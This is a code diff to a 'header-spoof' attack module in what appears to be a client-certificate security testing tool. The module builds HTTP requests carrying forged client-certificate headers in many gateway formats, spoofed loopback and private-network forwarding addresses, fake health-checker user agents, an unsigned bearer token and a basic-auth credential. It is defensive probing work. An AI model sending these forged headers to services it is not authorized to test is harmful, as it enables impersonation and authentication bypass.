@@ -1,41 +1,63 @@
+import { createHash } from "node:crypto";
 import { oids } from "../../pki/oids.ts";
+import { shortAttributeName } from "../../pki/name.ts";
 import { encodePem } from "../../pki/pem.ts";
 import type { Certificate } from "../../pki/verify/certificate.ts";
-import { displayName, textsOf } from "../../pki/verify/name.ts";
-import { type Attack, asking } from "../attack.ts";
+import { displayBytes, displayName, type Name, textsOf } from "../../pki/verify/name.ts";
+import { type Attack, asking, type Attempt } from "../attack.ts";
+import type { Protocol } from "../protocol.ts";
+import { asMarkedRequest } from "../variant.ts";
 import { ignoreHeaders } from "./fixes.ts";
 
 type Fields = Readonly<Record<string, string>>;
+/** What one gateway writes; a name may have another value with another one. */
+type Spoof = readonly [kind: string, fields: Fields];
 
 /**
  * What gateways write about a client, as they write it: for services that believe whoever sends it. Each
- * names a valid client and holds its certificate, which is public. One request for each gateway: a name may
- * have another value with another one, and many services take 8 KiB of fields at most.
+ * names a valid client and holds its certificate, which is public.
+ * @param cas the client's, DER
  */
-function spoofs(client: Certificate): readonly (readonly [kind: string, fields: Fields])[] {
-  const { der, serial } = client;
+function spoofs(client: Certificate, cas: readonly Uint8Array[]): readonly Spoof[] {
+  const { der } = client;
   const escaped = encodeURIComponent(encodePem("CERTIFICATE", der));
   const base64 = Buffer.from(der).toString("base64");
+  const digest = (algorithm: string) => createHash(algorithm).update(der);
+  const sha1 = digest("sha1").digest("hex");
+  const sha256 = digest("sha256").digest("hex");
+  const serial = client.serial.toUpperCase();
   const subject = headerText(displayName(client.subject));
   const issuer = headerText(displayName(client.issuer));
   const name = headerText(textsOf(client.subject, oids.commonName)[0] ?? "fleetsec-probe");
-  const uri = client.subjectAltName?.find(({ type }) => type === "uri");
-  const uriText = headerText(uri?.type === "uri" ? uri.value : "spiffe://fleet.internal/fleetsec-probe");
-  const described = { "x-ssl-client-dn": subject, "x-ssl-client-cn": name, "x-ssl-client-serial": serial };
+  const uris = namesOf(client, "uri");
+  const [uri = "spiffe://fleet.internal/fleetsec-probe"] = uris;
+  const slashes = onOneLine(client.subject);
+  const quoted = { "x-ssl-client-dn": `"${slashes}"`, "x-ssl-client-cn": `"${name}"` };
   return [
+    // in the order of Envoy
     [
       "X-Forwarded-Client-Cert",
       {
-        "x-forwarded-client-cert": `By=spiffe://fleet.internal/gateway;Hash=${"0".repeat(64)};Subject="${subject}";URI=${uriText};Cert="${escaped}"`,
+        "x-forwarded-client-cert": [
+          "By=spiffe://fleet.internal/gateway",
+          `Hash=${sha256}`,
+          `Cert="${escaped}"`,
+          `Subject="${subject.replaceAll('"', '\\"')}"`,
+          ...(uris.length > 0 ? uris : [uri]).map((one) => `URI=${one}`),
+          ...namesOf(client, "dns").map((one) => `DNS=${one}`),
+        ].join(";"),
       },
     ],
     [
       "X-SSL-Client-*",
       {
-        ...described,
         "x-ssl-client-verify": "SUCCESS",
+        "x-ssl-client-dn": subject,
         "x-ssl-client-s-dn": subject,
         "x-ssl-client-i-dn": issuer,
+        "x-ssl-client-cn": name,
+        "x-ssl-client-serial": serial,
+        "x-ssl-client-fingerprint": sha1,
         "x-ssl-client-cert": escaped,
       },
     ],
@@ -43,15 +65,24 @@ function spoofs(client: Certificate): readonly (readonly [kind: string, fields: 
     [
       "X-SSL-Client-* of HAProxy",
       {
-        ...described,
         "x-ssl": "1",
         "x-ssl-client": "1",
         "x-ssl-client-used": "1",
         "x-ssl-client-verify": "0",
+        "x-ssl-client-dn": slashes,
+        "x-ssl-client-s-dn": slashes,
+        "x-ssl-client-i-dn": onOneLine(client.issuer),
+        "x-ssl-issuer": onOneLine(client.issuer),
+        "x-ssl-client-cn": name,
+        "x-ssl-client-serial": serial,
+        "x-ssl-client-sha1": sha1.toUpperCase(),
+        "x-ssl-client-fingerprint": sha1.toUpperCase(),
         "x-ssl-client-der": base64,
         "x-ssl-client-cert": base64,
       },
     ],
+    // `%{+Q}`, as in its documentation
+    ["X-SSL-Client-* of HAProxy, quoted", { ...quoted, "x-ssl-client-verify": "0" }],
     [
       "SSL-Client-*",
       {
@@ -69,10 +100,24 @@ function spoofs(client: Certificate): readonly (readonly [kind: string, fields: 
         "x-client-dn": subject,
         "x-client-cert-present": "true",
         "x-client-cert-chain-verified": "true",
+        "x-client-cert-verified": "true",
+        "x-client-cert-hash": digest("sha256").digest("base64"),
+        "x-client-cert-fingerprint": sha256,
+        "x-client-cert-serial-number": serial,
+        "x-client-cert-spiffe": uri,
       },
     ],
-    // RFC 9440, section 2.1
-    ["Client-Cert", { "client-cert": `:${base64}:` }],
+    ["X-SSL-Cert", { "x-ssl-cert": escaped }],
+    // RFC 9440, sections 2.2 and 2.3
+    [
+      "Client-Cert",
+      {
+        "client-cert": `:${base64}:`,
+        "client-cert-chain": (cas.length > 0 ? cas : [der])
+          .map((one) => `:${Buffer.from(one).toString("base64")}:`)
+          .join(", "),
+      },
+    ],
     [
       "X-Forwarded-Tls-Client-Cert",
       {
@@ -91,24 +136,59 @@ function spoofs(client: Certificate): readonly (readonly [kind: string, fields: 
       },
     ],
     ["X-ARR-ClientCert", { "x-arr-clientcert": base64 }],
-    // who comes from the machine itself may need none
     [
-      "X-Forwarded-For",
+      "Cf-Client-Cert-*",
       {
-        "x-forwarded-for": "127.0.0.1",
-        "x-real-ip": "127.0.0.1",
-        // RFC 7239, section 4
-        forwarded: "for=127.0.0.1;host=localhost;proto=https",
+        "cf-client-cert-verified": "true",
+        "cf-client-cert-der-base64": base64,
+        "cf-cert-presented": "true",
+        "cf-cert-verified": "true",
+        "cf-cert-revoked": "false",
+        "cf-cert-subject-dn": subject,
+        "cf-cert-issuer-dn": issuer,
+        "cf-cert-serial": serial,
+        "cf-cert-fingerprint-sha1": sha1,
+        "cf-cert-fingerprint-sha256": sha256,
       },
     ],
     // of Kubernetes, AWS and Google: load balancers have no certificate
     ["User-Agent", { "user-agent": "kube-probe/1.31 ELB-HealthChecker/2.0 GoogleHC/1.0" }],
+    ...ADDRESSES.map(from),
     ["Authorization: Bearer", { authorization: `Bearer ${unsignedToken(name)}` }],
     // of nobody's: a password that is tried on a client's own name may lock it out
     [
       "Authorization: Basic",
       { authorization: `Basic ${Buffer.from("fleetsec-probe:fleetsec-probe").toString("base64")}` },
     ],
+  ];
+}
+
+/**
+ * Where clients may come from that need no certificate: the machine itself, a private network (RFC 1918). Of two, services
+ * believe the first, which the client is said to have, or the last, which the nearest gateway would have written.
+ */
+const ADDRESSES = [
+  ["127.0.0.1", "10.0.0.1"],
+  ["10.0.0.1", "127.0.0.1"],
+  ["192.168.0.1", "172.16.0.1"],
+  ["172.16.0.1", "::1"],
+  ["::1", "192.168.0.1"],
+] as const;
+
+function from([first, last]: (typeof ADDRESSES)[number]): Spoof {
+  // RFC 7239, sections 4 and 6
+  const node = (address: string) => (address.includes(":") ? `"[${address}]"` : address);
+  return [
+    `X-Forwarded-For: ${first}, ${last}`,
+    {
+      "x-forwarded-for": `${first}, ${last}`,
+      "x-forwarded-proto": "https",
+      "x-real-ip": first,
+      "x-client-ip": first,
+      "true-client-ip": first,
+      "cf-connecting-ip": first,
+      forwarded: `for=${node(first)};host=localhost;proto=https, for=${node(last)}`,
+    },
   ];
 }
 
@@ -121,8 +201,58 @@ function unsignedToken(subject: string): string {
   return `${parts.map((part) => Buffer.from(JSON.stringify(part)).toString("base64url")).join(".")}.`;
 }
 
+function namesOf({ subjectAltName = [] }: Certificate, type: "uri" | "dns"): string[] {
+  return subjectAltName.flatMap((one) => (one.type === type ? [headerText(one.value)] : []));
+}
+
+/** `/O=Acme/CN=unit-7`, in the order of the name: OpenSSL's old form, which HAProxy and nginx (`_legacy`) still write. */
+function onOneLine({ rdns }: Name): string {
+  const parts = rdns
+    .flat()
+    .map(({ oid, text, der }) => `/${shortAttributeName(oid)}=${text ?? displayBytes(der)}`);
+  return headerText(parts.join(""));
+}
+
 /** What stands in a certificate must not write a field of its own. */
 const headerText = (text: string) => text.replaceAll(/[^\u0020-\u007e]/g, "?");
+
+/** Many services take 8 KiB of fields at most, the usual ones and a reverse proxy's own among them. */
+const MAX_FIELDS = 4096;
+
+/** Few requests for all: who is denied with all of them is denied with each. Never two values of one name. */
+function inFewRequests(all: readonly Spoof[]): Spoof[][] {
+  const requests: Spoof[][] = [];
+  for (const spoof of all) {
+    const room = requests.find((request) => fits(request, spoof));
+    if (room === undefined) requests.push([spoof]);
+    else room.push(spoof);
+  }
+  return requests;
+}
+
+function fits(request: readonly Spoof[], [, fields]: Spoof): boolean {
+  const known = Object.assign({}, ...request.map(([, others]) => others)) as Fields;
+  const size = Object.entries({ ...known, ...fields }).join(": \r\n").length;
+  // a service that looks for a token or a password first turns the wrong one down, and looks no further
+  const isAlone = "authorization" in known || "authorization" in fields;
+  return !isAlone && size <= MAX_FIELDS && Object.keys(fields).every((name) => known[name] === undefined);
+}
+
+function spoofing(http: NonNullable<Protocol["http"]>, some: readonly Spoof[]): Attempt {
+  const { request, ask } = http;
+  const fields = Object.assign({}, ...some.map(([, one]) => one)) as Fields;
+  const own = request.fields.filter(([name]) => fields[name] === undefined);
+  const half = Math.ceil(some.length / 2);
+  return {
+    ...asking(
+      ask({ ...request, fields: [...own, ...Object.entries(fields)] }),
+      some.map(([kind]) => kind).join(", "),
+    ),
+    revise: asMarkedRequest,
+    smaller: () =>
+      some.length < 2 ? [] : [some.slice(0, half), some.slice(half)].map((part) => spoofing(http, part)),
+  };
+}
 
 export const headerSpoof: Attack = {
   id: "header-spoof",
@@ -133,17 +263,12 @@ export const headerSpoof: Attack = {
   weight: "required",
   takesIdentity: false,
   versions: ["1.3", "1.2"],
-  async plan({ protocol, forgery }) {
-    if (protocol.http === undefined)
-      return { outcome: "not-applicable", reason: "the service speaks no HTTP" };
-    const { request, ask } = protocol.http;
+  async plan({ protocol: { http }, forgery }) {
+    if (http === undefined) return { outcome: "not-applicable", reason: "the service speaks no HTTP" };
     const [leaf] = forgery.control?.chain ?? [];
     if (leaf === undefined)
       return { outcome: "not-run", reason: "needs a valid client's certificate, which it names" };
-    const attempts = spoofs(leaf).map(([kind, spoofed]) => {
-      const own = request.fields.filter(([name]) => spoofed[name] === undefined);
-      return asking(ask({ ...request, fields: [...own, ...Object.entries(spoofed)] }), kind);
-    });
-    return { attempts };
+    const requests = inFewRequests(spoofs(leaf, forgery.clientCas));
+    return { attempts: requests.map((some) => spoofing(http, some)) };
   },
 };
